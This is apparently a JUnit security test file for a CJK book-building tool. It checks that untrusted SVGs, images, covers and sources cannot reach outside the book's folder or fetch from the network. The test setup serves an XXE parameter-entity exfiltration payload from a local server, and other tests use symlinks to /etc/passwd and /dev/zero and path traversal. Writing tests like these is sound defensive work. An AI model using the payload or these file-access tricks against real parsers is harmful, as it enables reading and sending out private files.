package org.cjkbook.read;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.TimeUnit;

import javax.imageio.ImageIO;

import org.cjkbook.BookException;
import org.cjkbook.Builds;
import org.cjkbook.model.Block;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import com.sun.net.httpserver.HttpServer;

/** A book read from someone else's files reads nothing outside its folder and fetches nothing. */
class UntrustedSourcesTest {

    private static final Path SVG_FIXTURES = Path.of("src/test/resources/svg");
    private static final String SECRET = "秘密-hostname-4711";

    @TempDir
    Path temp;

    private Path book;
    private Path outside;
    private HttpServer server;
    private final List<String> requests = new CopyOnWriteArrayList<>();

    @BeforeEach
    void setUp() throws IOException {
        book = Files.createDirectories(temp.resolve("book"));
        outside = Files.createDirectories(temp.resolve("outside"));
        server = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        server.createContext("/", exchange -> {
            requests.add(exchange.getRequestURI().toString());
            byte[] body = "<!ENTITY % all \"<!ENTITY send SYSTEM 'http://127.0.0.1/?%secret;'>\">%all;"
                    .getBytes(StandardCharsets.UTF_8);
            exchange.sendResponseHeaders(200, body.length);
            exchange.getResponseBody().write(body);
            exchange.close();
        });
        server.start();
    }

    @AfterEach
    void stopServer() {
        server.stop(0);
    }

    @ParameterizedTest
    @ValueSource(strings = {"parameter-entities.svg", "external-entity.svg", "external-image.svg", "script.svg",
            "foreign-object.svg", "css-url.svg", "stylesheet.svg"})
    void anSvgThatWouldReachOutsideItselfStopsTheBuildAndNothingIsFetched(String name) throws IOException {
        Path secret = Files.writeString(outside.resolve("hostname"), SECRET);
        String svg = Files.readString(SVG_FIXTURES.resolve(name))
                .replace("PORT", Integer.toString(server.getAddress().getPort()))
                .replace("SECRET", secret.toString());
        Files.writeString(book.resolve(name), svg);
        Path source = Files.writeString(book.resolve("article.md"), "# 图\n\n正文。\n\n![图](" + name + ")\n");
        Path out = temp.resolve("out");

        Builds.Run run = Builds.cli("build", source.toString(), "-o", out.toString(), "--fonts", "fonts");

        assertThat(run.exitCode()).isEqualTo(1);
        assertThat(run.err().strip().lines().reduce((a, b) -> b).orElseThrow())
                .startsWith("cjkbook: " + source + ":5: image " + name + " ");
        assertThat(requests).as("requests the server received").isEmpty();
        assertThat(run.out() + run.err()).doesNotContain(SECRET);
        assertThat(Builds.filesUnder(out)).isEmpty();
    }

    @Test
    void anSvgThatDrawsFromItselfAloneIsAnImage() throws IOException {
        Files.copy(SVG_FIXTURES.resolve("drawn-from-itself.svg"), book.resolve("figure.svg"));
        Path source = Files.writeString(book.resolve("article.md"), "正文。\n\n![图](figure.svg)\n");

        assertThat(new BookLoader().load(source).book().chapters().get(0).blocks())
                .anySatisfy(b -> assertThat(b).isInstanceOf(Block.Image.class));
    }

    @Test
    void anImageAboveTheFolderIsRefused() throws IOException {
        png(outside.resolve("passwd.png"));
        Path source = Files.writeString(book.resolve("article.md"), "正文。\n\n![x](../outside/passwd.png)\n");

        assertThatThrownBy(() -> new BookLoader().load(source)).isInstanceOf(BookException.class)
                .hasMessageStartingWith(source + ":3: image ../outside/passwd.png lies outside the book's folder");
    }

    @Test
    void anImageByAbsolutePathOutsideTheFolderIsRefused() throws IOException {
        Path image = png(outside.resolve("photo.png"));
        Path source = Files.writeString(book.resolve("article.md"), "正文。\n\n<img alt=\"x\" src=\"" + image + "\">\n");

        assertThatThrownBy(() -> new BookLoader().load(source))
                .hasMessageStartingWith(source + ":3: image " + image + " lies outside the book's folder");
    }

    @Test
    void anImageLinkedToAFileOutsideTheFolderIsRefused() throws IOException {
        Files.createSymbolicLink(book.resolve("secret.png"), Path.of("/etc/passwd"));
        Path source = Files.writeString(book.resolve("article.md"), "正文。\n\n![x](secret.png)\n");

        assertThatThrownBy(() -> new BookLoader().load(source))
                .hasMessageStartingWith(source + ":3: image secret.png lies outside the book's folder")
                .hasMessageContaining("/etc/passwd");
    }

    @Test
    void aCoverLinkedToAFileOutsideTheFolderIsRefused() throws IOException {
        Path image = png(outside.resolve("cover.png"));
        Files.createSymbolicLink(book.resolve("cover.png"), image);
        Files.writeString(book.resolve("article.txt"), "标题\n\n　　正文。\n");
        Path settings = Files.writeString(book.resolve("book.yaml"), "cover: cover.png\n");

        assertThatThrownBy(() -> new BookLoader().load(book))
                .hasMessageStartingWith(settings + ": cover: ").hasMessageContaining("lies outside the book's folder");
    }

    @Test
    void aCoverThatDoesNotDecodeIsRefused() throws IOException {
        Files.writeString(book.resolve("cover.png"), "not an image");
        Files.writeString(book.resolve("article.txt"), "标题\n\n　　正文。\n");
        Path settings = Files.writeString(book.resolve("book.yaml"), "cover: cover.png\n");

        assertThatThrownBy(() -> new BookLoader().load(book)).hasMessageStartingWith(settings + ": cover: ")
                .hasMessageContaining("not a PNG image");
    }

    @Test
    void aSourceOutsideTheFolderIsRefused() throws IOException {
        Files.writeString(outside.resolve("other.txt"), "别人的文字\n");
        Path settings = Files.writeString(book.resolve("book.yaml"), "sources: [../outside/other.txt]\n");

        assertThatThrownBy(() -> new BookLoader().load(book))
                .hasMessageStartingWith(settings + ": sources: ").hasMessageContaining("lies outside the book's folder");
    }

    @Test
    void settingsLinkedFromOutsideTheFolderAreRefused() throws IOException {
        Path elsewhere = Files.writeString(outside.resolve("book.yaml"), "title: 书\n");
        Files.createSymbolicLink(book.resolve("book.yaml"), elsewhere);

        assertThatThrownBy(() -> new BookLoader().load(book)).hasMessageContaining("lies outside the book's folder");
    }

    @Test
    @Timeout(value = 10, unit = TimeUnit.SECONDS)
    void aSourceLinkedToAnEndlessDeviceIsRefusedWithoutReadingIt() throws IOException {
        Path zero = Files.createSymbolicLink(book.resolve("zero.txt"), Path.of("/dev/zero"));

        assertThatThrownBy(() -> new BookLoader().load(zero)).isInstanceOf(BookException.class)
                .hasMessageStartingWith(zero + ": ").hasMessageNotContaining("\n");
        Files.writeString(book.resolve("book.yaml"), "sources: [zero.txt]\n");
        assertThatThrownBy(() -> new BookLoader().load(book)).isInstanceOf(BookException.class);
    }

    @Test
    @Timeout(value = 10, unit = TimeUnit.SECONDS)
    void aSourceThatIsAPipeIsRefusedWithoutReadingIt() throws Exception {
        Path fifo = book.resolve("pipe.txt");
        Process mkfifo = new ProcessBuilder("mkfifo", fifo.toString()).start();
        assertThat(mkfifo.waitFor()).isZero();

        assertThatThrownBy(() -> new BookLoader().load(fifo))
                .hasMessage(fifo.toAbsolutePath().normalize() + ": is not a regular file");
    }

    @ParameterizedTest
    @ValueSource(strings = {"text.png", "cut.png", "cut.jpg", "cut.gif", "jpeg.png"})
    void anImageThatDoesNotDecodeIsRefused(String name) throws IOException {
        byte[] bytes = switch (name) {
            case "text.png" -> "这不是图片".getBytes(StandardCharsets.UTF_8);
            case "jpeg.png" -> encoded("jpeg");
            default -> {
                byte[] whole = encoded(name.substring(name.indexOf('.') + 1).replace("jpg", "jpeg"));
                yield java.util.Arrays.copyOf(whole, whole.length * 2 / 3);
            }
        };
        Files.write(book.resolve(name), bytes);
        Path source = Files.writeString(book.resolve("article.md"), "正文。\n\n![x](" + name + ")\n");

        assertThatThrownBy(() -> new BookLoader().load(source)).isInstanceOf(BookException.class)
                .hasMessageStartingWith(source + ":3: image " + name + " ");
    }

    private static Path png(Path file) throws IOException {
        return Files.write(file, encoded("png"));
    }

    /** A noisy image, so that cutting its file short cuts its pixels. */
    private static byte[] encoded(String format) throws IOException {
        BufferedImage image = new BufferedImage(64, 64, BufferedImage.TYPE_INT_RGB);
        java.util.Random random = new java.util.Random(1);
        for (int y = 0; y < 64; y++) {
            for (int x = 0; x < 64; x++) {
                image.setRGB(x, y, random.nextInt());
            }
        }
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        assertThat(ImageIO.write(image, format, out)).isTrue();
        return out.toByteArray();
    }
}
